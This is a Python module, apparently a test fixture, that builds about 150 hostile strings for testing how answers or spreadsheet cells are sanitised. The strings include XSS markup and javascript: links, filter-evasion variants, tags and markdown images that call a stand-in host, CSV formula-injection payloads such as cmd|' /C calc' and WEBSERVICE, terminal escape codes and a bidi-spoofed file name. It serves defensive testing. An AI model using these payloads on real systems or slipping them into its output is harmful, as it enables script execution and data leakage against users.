"""Hostile strings of an answer or a cell: each tries to run, to reach out or to act in a spreadsheet."""

from __future__ import annotations

from collections.abc import Iterator

ELSEWHERE = "https://elsewhere.example"

_RUNS = ("window.ran=1", "alert(1)", f"fetch('{ELSEWHERE}/x')")
_MARKUP = (
    "<script>{run}</script>",
    '<img src=x onerror="{run}">',
    '<svg onload="{run}"></svg>',
    "<svg><script>{run}</script></svg>",
    '<body onload="{run}">',
    '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
    '<details open ontoggle="{run}">x</details>',
    '<input autofocus onfocus="{run}">',
    '<video><source onerror="{run}"></video>',
    '<a href="javascript:{run}">x</a>',
    "[x](javascript:{run})",
    "[x](data:text/html,<script>{run}</script>)",
    "[x]: javascript:{run}\n\n[x]",
    "<math><mtext><script>{run}</script></mtext></math>",
    "<template><script>{run}</script></template>",
    '"><script>{run}</script>',
    "</code></pre><script>{run}</script>",
    '`</code><img src=x onerror="{run}">`',
    '<object data="javascript:{run}"></object>',
    '<form><button formaction="javascript:{run}">x</button></form>',
)
_REACHES = (
    "![x]({url}/a.png)",
    "![x][y]\n\n[y]: {url}/b.png",
    '<img src="{url}/c.png">',
    '<img srcset="{url}/d.png 2x">',
    '<link rel=stylesheet href="{url}/e.css">',
    '<link rel=prefetch href="{url}/f">',
    "<style>@import '{url}/g.css';</style>",
    '<div style="background:url({url}/h.png)">x</div>',
    '<iframe src="{url}/i"></iframe>',
    '<embed src="{url}/j">',
    '<object data="{url}/k"></object>',
    '<audio src="{url}/l" autoplay></audio>',
    '<video poster="{url}/m.png"></video>',
    '<base href="{url}/">',
    '<meta http-equiv=refresh content="0;url={url}/n">',
    '<script src="{url}/o.js"></script>',
    '<svg><image href="{url}/p.png"/></svg>',
    '<svg><use href="{url}/q.svg#x"/></svg>',
    "[click me]({url}/r)",
    "<{url}/s>",
)
_FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    f'=HYPERLINK("{ELSEWHERE}","x")',
    f'=IMPORTXML("{ELSEWHERE}","//a")',
    f'=WEBSERVICE("{ELSEWHERE}")',
)
_CONTROLS = (
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://elsewhere.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\u202egnp.exe",
    "\u2066x\u2069",
    "zero\u200bwidth",
    "bell\x07",
    "back\x08space",
    "\ufeffmark",
    "${7*7}",
    "{{7*7}}",
    "<%= 7*7 %>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;window.ran=1&#60;/script&#62;",
    "<ScRiPt>window.ran=1</sCrIpT>",
    "<scr<script>ipt>window.ran=1</script>",
    "<img src=x:x onerror=window.ran=1//",
    '<!--<img src="--><img src=x onerror=window.ran=1>',
)


def payloads() -> tuple[str, ...]:
    """150 different strings."""
    found = tuple(dict.fromkeys(_all()))
    return found[:150]


def formulas() -> tuple[str, ...]:
    """Those that a spreadsheet would run."""
    return _FORMULAS


def _all() -> Iterator[str]:
    yield from _FORMULAS
    yield from _CONTROLS
    for template in _REACHES:
        yield template.replace("{url}", ELSEWHERE)
        yield template.replace("{url}", "//elsewhere.example")
    for template in _MARKUP:
        for run in _RUNS:
            yield template.replace("{run}", run)
    for template in (*_REACHES, *_MARKUP):
        yield "> - **" + template.replace("{url}", "http://elsewhere.example").replace(
            "{run}", "window.ran=2"
        )
